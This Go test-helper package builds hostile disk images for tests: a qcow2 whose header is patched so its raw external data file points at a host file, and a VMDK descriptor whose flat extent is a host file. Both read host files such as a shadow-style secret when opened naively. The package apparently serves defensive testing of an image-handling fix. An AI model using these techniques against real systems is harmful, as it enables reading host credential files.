// Package qemuimgtest makes the hostile disk images of issue 13 for tests:
// images that, opened naively with qemu-img or QEMU, read a host file.
package qemuimgtest

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

// Secret is the content of the host files the images point at.
const Secret = "root:$6$SECRET-HOST-LINE:19000:0:99999:7:::\n"

// SecretFile writes a 1 MiB host file of Secret lines into dir.
func SecretFile(t testing.TB, dir, name string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	data := bytes.Repeat([]byte(Secret), (1<<20)/len(Secret)+1)
	if err := os.WriteFile(p, data[:1<<20], 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// DataFileQcow2 is the first exploit: a qcow2 whose external data
// file (data_file_raw) is patched in the header to a host file. It returns
// the image and the host file.
func DataFileQcow2(t testing.TB, dir string) (img, host string) {
	t.Helper()
	host = SecretFile(t, dir, "hf.raw")
	img = filepath.Join(dir, "evil.qcow2")
	df := filepath.Join(dir, "df.raw")
	if out, err := exec.Command("qemu-img", "create", "-q", "-f", "qcow2", "-o", "data_file="+df+",data_file_raw=on", img, "1M").CombinedOutput(); err != nil {
		t.Fatalf("qemu-img create: %v: %s", err, out)
	}
	os.Remove(df)
	b, err := os.ReadFile(img)
	if err != nil {
		t.Fatal(err)
	}
	i := bytes.Index(b, []byte(df))
	if i < 0 {
		t.Fatal("data file name not in the qcow2 header")
	}
	copy(b[i:], host) // same length
	if err := os.WriteFile(img, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return img, host
}

// FlatExtentVMDK is the second exploit: a VMDK descriptor whose FLAT
// extent is a host file.
func FlatExtentVMDK(t testing.TB, dir string) (img, host string) {
	t.Helper()
	host = SecretFile(t, dir, "shadow")
	img = filepath.Join(dir, "evil.vmdk")
	desc := "# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\ncreateType=\"monolithicFlat\"\n\nRW 2048 FLAT \"" + host + "\" 0\n\nddb.adapterType = \"ide\"\n"
	if err := os.WriteFile(img, []byte(desc), 0o644); err != nil {
		t.Fatal(err)
	}
	return img, host
}
